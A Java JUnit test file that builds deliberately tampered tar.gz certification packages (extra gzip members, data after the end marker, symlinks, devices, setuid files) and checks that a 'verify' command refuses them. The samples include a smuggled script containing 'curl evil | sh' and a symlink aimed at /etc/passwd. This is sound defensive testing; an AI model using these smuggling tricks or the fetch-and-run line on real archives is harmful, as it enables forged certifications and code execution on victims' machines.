package dev.gaday.cert;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.gaday.cert.archive.ReproducibleTar;
import dev.gaday.common.cli.CommandRun;
import dev.gaday.common.io.Sha256;
import dev.gaday.testkit.hostile.ArchiveSmuggling;
import dev.gaday.testkit.hostile.TarBytes;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The archive-smuggling corpus against {@code verify}: each hostile variant of a good package carries
 * something that {@code tar} or {@code gzip} would read; verify must see it too and refuse (exit 1, one
 * line naming the entry or the place). Where it helps, the real tar and gzip confirm the smuggled data
 * is there to be had.
 */
class VerifySmugglingTest {
    private static final String EMPTY_SHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";

    @TempDir
    Path dir;

    byte[] good;

    @BeforeEach
    void goodPackage() throws IOException {
        good = Files.readAllBytes(packageListing(dir.resolve("good"), List.of()));
    }

    /** A package of a report and an email summary; {@code listedEmpty} are also listed as empty files. */
    private Path packageListing(Path base, List<String> listedEmpty) throws IOException {
        Path pkg = Files.createDirectories(base.resolve("pkg"));
        Files.writeString(pkg.resolve("GA_DAY_REPORT.md"), "# Report\n");
        Files.writeString(pkg.resolve("EMAIL_SUMMARY.txt"), "NOT CERTIFIED\n");
        StringBuilder manifest = new StringBuilder();
        List<String> names = new ArrayList<>(List.of("EMAIL_SUMMARY.txt", "GA_DAY_REPORT.md"));
        for (String name : names) {
            manifest.append(Sha256.line(Sha256.hex(pkg.resolve(name)), name));
        }
        for (String name : listedEmpty) {
            manifest.append(Sha256.line(EMPTY_SHA256, name));
        }
        Files.writeString(pkg.resolve("MANIFEST.sha256"), manifest);
        Files.writeString(
                pkg.resolve("certification_metadata.json"),
                "{\"manifestSha256\":\"" + Sha256.hex(pkg.resolve("MANIFEST.sha256"))
                        + "\",\"certificationStatus\":\"NOT_CERTIFIED\"}\n");
        names.add("MANIFEST.sha256");
        names.add("certification_metadata.json");
        Path archive = base.resolve("package.tar.gz");
        ReproducibleTar.write(archive, pkg, "package/", names, 1_700_000_000L);
        return archive;
    }

    private Path write(String name, byte[] bytes) throws IOException {
        return Files.write(dir.resolve(name), bytes);
    }

    private static CommandRun verify(Path archive) {
        return CommandRunner.run("verify", archive.toString());
    }

    private static void assertRefused(Path archive, String... reasons) {
        CommandRun run = verify(archive);
        assertEquals(1, run.exitCode(), run.err());
        assertEquals(1, run.err().lines().count(), run.err());
        for (String reason : reasons) {
            assertTrue(run.err().contains(reason), "expected '" + reason + "' in: " + run.err());
        }
        assertEquals("", run.out());
    }

    private static byte[] certifiedSummary() {
        return new TarBytes()
                .file("package/EMAIL_SUMMARY.txt", "CERTIFIED\n")
                .endOfArchive()
                .bytes();
    }

    @Test
    void theGoodPackagePasses() throws IOException {
        CommandRun run = verify(write("good.tar.gz", good));
        assertEquals(0, run.exitCode(), run.err());
        assertTrue(run.out().contains("2 files match"), run.out());
    }

    @Test
    void zeroPaddingAfterTheEndMarkerAndAnArchiveMadeByGnuTarPass() throws Exception {
        CommandRun padded = verify(
                write("padded.tar.gz", ArchiveSmuggling.appendAfterEndOfArchive(good, new byte[20 * TarBytes.BLOCK])));
        assertEquals(0, padded.exitCode(), padded.err());
        // GNU tar pads to 10 KiB records and writes its own headers; gzip -9 writes one member.
        Path base = dir.resolve("gnu");
        packageListing(base, List.of());
        Path tree = Files.createDirectories(base.resolve("tree"));
        Files.move(base.resolve("pkg"), tree.resolve("package"));
        Path archive = base.resolve("gnu.tar.gz");
        assertEquals(0, run(tree, "tar", "-czf", archive.toString(), "package").exitCode);
        CommandRun gnu = verify(archive);
        assertEquals(0, gnu.exitCode(), gnu.err());
    }

    @Test
    void aTarStreamSplitAcrossGzipMembersIsReadWhole() throws IOException {
        // gzip -d joins members into one stream; a split at any byte is the same archive to tar.
        byte[] tar = ArchiveSmuggling.gunzip(good);
        for (int split : new int[] {1, 511, 1000, tar.length - 1}) {
            byte[] first = ArchiveSmuggling.gzip(java.util.Arrays.copyOfRange(tar, 0, split));
            byte[] joined =
                    ArchiveSmuggling.appendGzipMember(first, java.util.Arrays.copyOfRange(tar, split, tar.length));
            CommandRun run = verify(write("split-" + split + ".tar.gz", joined));
            assertEquals(0, run.exitCode(), "split at " + split + ": " + run.err());
        }
    }

    @Test
    void aSecondGzipMemberOverwritingTheEmailSummaryIsRefused() throws Exception {
        Path evil = write("member.tar.gz", ArchiveSmuggling.appendGzipMember(good, certifiedSummary()));
        assertRefused(
                evil, "entry 'package/EMAIL_SUMMARY.txt'", "after the tar end-of-archive marker", "gzip member 2");
        // What tar reads: gzip -t passes (two valid members) and tar -i extracts the second summary over the first.
        assertEquals(0, run(dir, "gzip", "-t", evil.toString()).exitCode);
        Path out = Files.createDirectories(dir.resolve("extracted"));
        assertEquals(0, run(out, "tar", "-xizf", evil.toString()).exitCode);
        assertEquals("CERTIFIED\n", Files.readString(out.resolve("package/EMAIL_SUMMARY.txt")));
    }

    @Test
    void trailingGarbageAfterTheGzipStreamIsRefused() throws Exception {
        Path evil = write(
                "garbage.tar.gz",
                ArchiveSmuggling.appendTrailingBytes(good, "CERTIFIED\n".getBytes(StandardCharsets.UTF_8)));
        assertRefused(evil, "trailing data after the gzip stream", "byte " + good.length);
        Tool gzip = run(dir, "gzip", "-t", evil.toString());
        assertEquals(2, gzip.exitCode, "gzip warns: " + gzip.output);
        assertTrue(gzip.output.contains("trailing garbage"), gzip.output);
        // Zero bytes are data too (gzip says "trailing zero bytes ignored").
        assertRefused(
                write("zeros.tar.gz", ArchiveSmuggling.appendTrailingBytes(good, new byte[1024])),
                "trailing data after the gzip stream");
    }

    @Test
    void entriesAfterTheEndOfArchiveBlocksAreRefused() throws Exception {
        Path evil = write("after-end.tar.gz", ArchiveSmuggling.appendAfterEndOfArchive(good, certifiedSummary()));
        assertRefused(evil, "entry 'package/EMAIL_SUMMARY.txt'", "after the tar end-of-archive marker");
        Tool listing = run(dir, "tar", "-tizf", evil.toString());
        assertEquals(
                2,
                listing.output
                        .lines()
                        .filter(l -> l.equals("package/EMAIL_SUMMARY.txt"))
                        .count(),
                listing.output);
    }

    @Test
    void dataAfterTheEndOfArchiveBlocksIsRefused() throws IOException {
        byte[] junk = new byte[TarBytes.BLOCK * 3];
        junk[TarBytes.BLOCK + 7] = 'x';
        Path evil = write("junk-after-end.tar.gz", ArchiveSmuggling.appendAfterEndOfArchive(good, junk));
        assertRefused(evil, "data after the tar end-of-archive marker");
    }

    @Test
    void anUnlistedExtraEntryIsRefused() throws IOException {
        Path evil = write(
                "extra.tar.gz",
                ArchiveSmuggling.insertBeforeEnd(
                        good,
                        new TarBytes()
                                .file("package/install.sh", "curl evil | sh\n")
                                .bytes()));
        assertRefused(evil, "package/install.sh", "not listed in MANIFEST.sha256");
        Path dirOutside = write(
                "extra-dir.tar.gz",
                ArchiveSmuggling.insertBeforeEnd(
                        good, new TarBytes().directory("elsewhere").bytes()));
        assertRefused(dirOutside, "'elsewhere/'", "not part of the package");
    }

    @Test
    void aSymlinkOutOfThePackageIsRefused() throws IOException {
        Path evil = write(
                "symlink.tar.gz",
                ArchiveSmuggling.insertBeforeEnd(
                        good,
                        new TarBytes()
                                .symlink("package/passwd", "../../../etc/passwd")
                                .bytes()));
        assertRefused(evil, "entry 'package/passwd'", "symbolic link");
    }

    @Test
    void aListedFifoDeviceOrHardLinkIsRefused() throws IOException {
        byte[] listing = Files.readAllBytes(packageListing(dir.resolve("listing"), List.of("pipe", "tty", "copy")));
        assertRefused(
                write(
                        "fifo.tar.gz",
                        ArchiveSmuggling.insertBeforeEnd(
                                listing, new TarBytes().fifo("package/pipe").bytes())),
                "entry 'package/pipe'",
                "FIFO");
        assertRefused(
                write(
                        "device.tar.gz",
                        ArchiveSmuggling.insertBeforeEnd(
                                listing,
                                new TarBytes().characterDevice("package/tty").bytes())),
                "entry 'package/tty'",
                "character device");
        assertRefused(
                write(
                        "hard.tar.gz",
                        ArchiveSmuggling.insertBeforeEnd(
                                listing,
                                new TarBytes()
                                        .hardLink("package/copy", "package/GA_DAY_REPORT.md")
                                        .bytes())),
                "entry 'package/copy'",
                "hard link");
    }

    @Test
    void aListedSetuidFileIsRefused() throws IOException {
        byte[] listing = Files.readAllBytes(packageListing(dir.resolve("listing"), List.of("run")));
        assertRefused(
                write(
                        "setuid.tar.gz",
                        ArchiveSmuggling.insertBeforeEnd(
                                listing,
                                new TarBytes()
                                        .file("package/run", new byte[0], 04755)
                                        .bytes())),
                "entry 'package/run'",
                "mode 4755");
    }

    @Test
    void aDotSegmentNameIsRefused() throws IOException {
        Path evil = write(
                "dot.tar.gz",
                ArchiveSmuggling.insertBeforeEnd(
                        good,
                        new TarBytes()
                                .file("package/./EMAIL_SUMMARY.txt", "CERTIFIED\n")
                                .bytes()));
        assertRefused(evil, "entry 'package/./EMAIL_SUMMARY.txt'");
    }

    @Test
    void aTruncatedArchiveSaysWhatIsWrong() throws IOException {
        Path truncated = write("truncated.tar.gz", java.util.Arrays.copyOf(good, good.length / 2));
        CommandRun run = verify(truncated);
        assertEquals(4, run.exitCode(), run.err());
        assertEquals(1, run.err().lines().count(), run.err());
        assertTrue(run.err().contains("truncated"), run.err());
        assertFalse(run.err().contains("null"), run.err());
        Path empty = write("empty.tar.gz", new byte[0]);
        CommandRun emptyRun = verify(empty);
        assertEquals(4, emptyRun.exitCode(), emptyRun.err());
        assertTrue(emptyRun.err().contains("empty"), emptyRun.err());
        Path notGzip = write("plain.tar.gz", ArchiveSmuggling.gunzip(good));
        CommandRun plain = verify(notGzip);
        assertEquals(4, plain.exitCode(), plain.err());
        assertTrue(plain.err().contains("not gzip data"), plain.err());
    }

    private record Tool(int exitCode, String output) {}

    private static Tool run(Path workDir, String... command) throws Exception {
        Process process = new ProcessBuilder(command)
                .directory(workDir.toFile())
                .redirectErrorStream(true)
                .start();
        String output = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertTrue(process.waitFor(30, TimeUnit.SECONDS), String.join(" ", command) + " did not finish");
        return new Tool(process.exitValue(), output);
    }
}
